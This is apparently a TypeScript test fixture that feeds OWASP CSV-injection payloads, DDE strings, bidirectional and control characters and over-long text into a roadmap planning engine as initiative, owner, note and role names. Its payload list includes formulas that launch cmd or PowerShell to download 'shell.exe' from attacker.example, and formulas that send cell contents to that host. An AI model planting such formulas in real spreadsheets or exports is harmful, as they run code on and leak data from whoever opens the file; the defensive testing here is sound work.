/**
 * The injection corpus as a roadmap: OWASP CSV-injection payloads, DDE strings, control and
 * bidirectional characters and over-long text as initiative names, owners, notes and role names,
 * put through the engine so every writer sees them where a real user's text lands.
 */
import { defaultRoles, defaultWorkstreams, sampleInput } from "../../src/plan/defaults";
import { nameForHash } from "../../src/plan/ids";
import type { Cell, Grid, InputGrids } from "../../src/plan/types";
import { INJECTION_CORPUS, OVERLONG_TEXT } from "../fixtures/injection";

/** Beyond test/fixtures/injection.ts: the OWASP list's DDE and exfiltration payloads and friends. */
export const OWASP_PAYLOADS: readonly string[] = [
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'B1'",
  "-2+3+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1&B1,"Error: click for details")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  "@A1:A9",
  "\t-1+1",
  "\r+1+1",
  "=1+1\u200b",
  "\uFF1D1+1",
  "'=already quoted",
  "%0A=1+1",
  "\u202Efdp.exe",
  "שלום עולם = +1",
  "Z\u0364\u0351a\u0308\u0316l\u036Eg\u0317o\u0319",
];

export const CORPUS: readonly string[] = [...INJECTION_CORPUS, ...OWASP_PAYLOADS];
export { OVERLONG_TEXT };

/** Role names replaced by payloads (kept distinct once headers are normalised: letters differ). */
export const ROLE_PAYLOADS: Readonly<Record<string, string>> = {
  "ML Engineer": "=cmd|' /C calc'!A0",
  "AI Engineer": "@SUM(1+1)*cmd|' /C calc'!A0",
  "Data Scientist": '=HYPERLINK("http://attacker.example","Data Scientist")',
};

const renameRoles = (grid: Grid, columnNames: boolean): Grid => ({
  ...grid,
  rows: grid.rows.map((row, i) =>
    row.map((c, j) => {
      const rename = (columnNames ? i === 0 : j === 0) && typeof c === "string" ? ROLE_PAYLOADS[c] : undefined;
      return rename ?? c;
    }),
  ),
});

/**
 * The sample's settings and team with every corpus string as an initiative (staggered starts, so
 * many get hires of their own), owners and notes from the corpus, one initiative, owner and note of
 * 40,000 characters, and three roles named by payloads.
 */
export function injectionInput(): InputGrids {
  const workstreams = defaultWorkstreams.rows.slice(1).map((r) => String(r[0]));
  const header = sampleInput.roadmap?.rows[0] ?? [];
  const seen = new Set<string>();
  const names = [...CORPUS, OVERLONG_TEXT].filter((t) => {
    const key = nameForHash(t.trim());
    if (key === "" || seen.has(key)) return false;
    seen.add(key);
    return true;
  });
  // Columns of the sample's header: Key (none: ids come from the names' hashes), Initiative, ...
  const rows: Cell[][] = names.map((name, i) => [
    "",
    name,
    workstreams[i % workstreams.length] ?? "",
    `2027-${String((i % 12) + 1).padStart(2, "0")}`,
    "2027-12",
    "XL",
    "100%",
    `P${i % 4}`,
    name === OVERLONG_TEXT ? OVERLONG_TEXT : (CORPUS[(i + 3) % CORPUS.length] ?? ""),
    name === OVERLONG_TEXT ? OVERLONG_TEXT : (CORPUS[(i + 7) % CORPUS.length] ?? ""),
  ]);
  const team = sampleInput.team;
  return {
    ...sampleInput,
    roadmap: { sheet: "Roadmap", originRow: 1, originCol: 1, rows: [header, ...rows] },
    roles: renameRoles(defaultRoles, false),
    workstreams: renameRoles(defaultWorkstreams, true),
    ...(team && { team: renameRoles(team, false) }),
  };
}
